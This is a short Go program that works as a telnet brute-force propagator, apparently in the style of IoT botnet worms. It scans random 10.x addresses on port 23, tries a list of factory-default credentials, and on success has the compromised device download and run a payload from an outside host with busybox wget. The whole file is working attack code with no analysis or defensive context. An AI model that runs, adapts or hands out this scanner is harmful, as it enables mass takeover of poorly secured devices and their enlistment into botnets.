package main

import (
	"bufio"
	"fmt"
	"math/rand"
	"net"
	"strings"
	"time"
)

var creds = strings.Fields("root:xc3511 root:vizxv admin:admin root:admin root:888888 support:support root: admin:password user:user guest:12345")

func expect(r *bufio.Reader, words ...string) bool {
	var b strings.Builder
	for b.Len() < 4096 {
		c, err := r.ReadByte()
		if err != nil {
			return false
		}
		b.WriteByte(c)
		for _, w := range words {
			if strings.HasSuffix(strings.ToLower(b.String()), w) {
				return true
			}
		}
	}
	return false
}

func try(ip string) {
	for _, c := range creds {
		u, p, _ := strings.Cut(c, ":")
		conn, err := net.DialTimeout("tcp", net.JoinHostPort(ip, "23"), 2*time.Second)
		if err != nil {
			return
		}
		conn.SetDeadline(time.Now().Add(12 * time.Second))
		r := bufio.NewReader(conn)
		if expect(r, "login: ", "username: ") {
			fmt.Fprintf(conn, "%s\r\n", u)
			if expect(r, "assword: ") {
				fmt.Fprintf(conn, "%s\r\n", p)
				if expect(r, "# ", "$ ", "> ") {
					fmt.Fprint(conn, "enable\r\nsystem\r\nsh\r\n/bin/busybox wget http://192.0.2.213/m -O /tmp/m; sh /tmp/m\r\n")
					expect(r, "saved")
					conn.Close()
					return
				}
			}
		}
		conn.Close()
	}
}

func main() {
	sem := make(chan struct{}, 1000)
	for {
		sem <- struct{}{}
		go func() {
			defer func() { <-sem }()
			try(fmt.Sprintf("10.%d.%d.%d", rand.Intn(256), rand.Intn(256), 1+rand.Intn(254)))
		}()
	}
}
